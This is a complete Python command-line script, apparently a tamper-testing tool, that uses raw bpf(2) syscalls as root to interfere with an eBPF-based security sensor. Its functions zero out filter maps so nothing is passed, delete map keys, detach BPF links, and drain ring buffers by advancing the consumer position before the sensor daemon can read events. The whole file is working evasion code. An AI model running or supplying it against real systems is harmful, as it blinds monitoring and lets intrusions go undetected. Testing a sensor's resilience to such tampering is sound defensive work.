#!/usr/bin/env python3
"""What root can do to a sensor from outside, by bpf(2): tamper.py zero MAP | delete MAP KEY | detach LINK | drain MAP SECONDS (ids)."""
import ctypes
import mmap
import platform
import struct
import sys
import time

NUMBER = 321 if platform.machine() == "x86_64" else 280
LIBC = ctypes.CDLL(None, use_errno=True)


def bpf(command, attributes):
    buffer = ctypes.create_string_buffer(attributes.ljust(128, b"\0"))
    result = LIBC.syscall(NUMBER, command, buffer, 128)
    if result < 0:
        raise OSError(ctypes.get_errno(), f"bpf command {command}")
    return result


def map_of(identifier):
    return bpf(14, struct.pack("I", int(identifier)))


def zero(identifier):
    """All kinds of both generations of the filter pass nothing."""
    descriptor = map_of(identifier)
    for generation in (0, 1):
        key = ctypes.create_string_buffer(struct.pack("I", generation))
        value = ctypes.create_string_buffer(16384)
        where = struct.pack("IxxxxQQ", descriptor, ctypes.addressof(key), ctypes.addressof(value))
        bpf(1, where)
        value[0:512] = b"\0" * 512
        bpf(2, where)


def delete(identifier, key):
    name = ctypes.create_string_buffer(struct.pack("I", int(key)))
    bpf(3, struct.pack("IxxxxQ", map_of(identifier), ctypes.addressof(name)))


def detach(identifier):
    bpf(34, struct.pack("I", bpf(30, struct.pack("I", int(identifier)))))


def drain(identifier, seconds):
    """The consumer position of a ring is moved on before the daemon reads what lies there."""
    descriptor = map_of(identifier)
    consumer = mmap.mmap(descriptor, mmap.PAGESIZE)
    producer = mmap.mmap(descriptor, mmap.PAGESIZE, prot=mmap.PROT_READ, offset=mmap.PAGESIZE)
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        consumer[0:8] = producer[0:8]


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
